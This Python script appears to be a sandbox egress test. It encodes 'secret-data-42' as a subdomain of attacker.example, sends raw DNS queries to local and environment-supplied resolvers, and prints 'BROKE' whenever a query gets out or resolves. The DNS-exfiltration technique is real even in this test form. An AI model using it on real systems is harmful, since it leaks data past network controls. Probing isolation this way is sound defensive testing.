import os
import socket

print("tried", flush=True)
servers = []
try:
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
except OSError:
    pass
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(part)]) + part for part in (b"secret-data-42", b"attacker", b"example")) + b"\0\0\1\0\1"
addresses = [(server, 53) for server in servers] + [("127.0.0.11", 53)]
addresses += [(target.rsplit(":", 1)[0], int(target.rsplit(":", 1)[1])) for target in filter(None, os.environ.get("TARGETS", "").split(","))]
for address in addresses:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.3)
        try:
            asking.sendto(question, address)
            if not address[0].startswith("127."):
                print("BROKE sent to", address)
            asking.recv(512)
            print("BROKE an answer from", address)
        except OSError:
            pass
for name in ("secret-data-42.attacker.example", "example.com", "localhost.attacker.example"):
    try:
        print("BROKE resolved", socket.getaddrinfo(name, 80))
    except OSError:
        pass
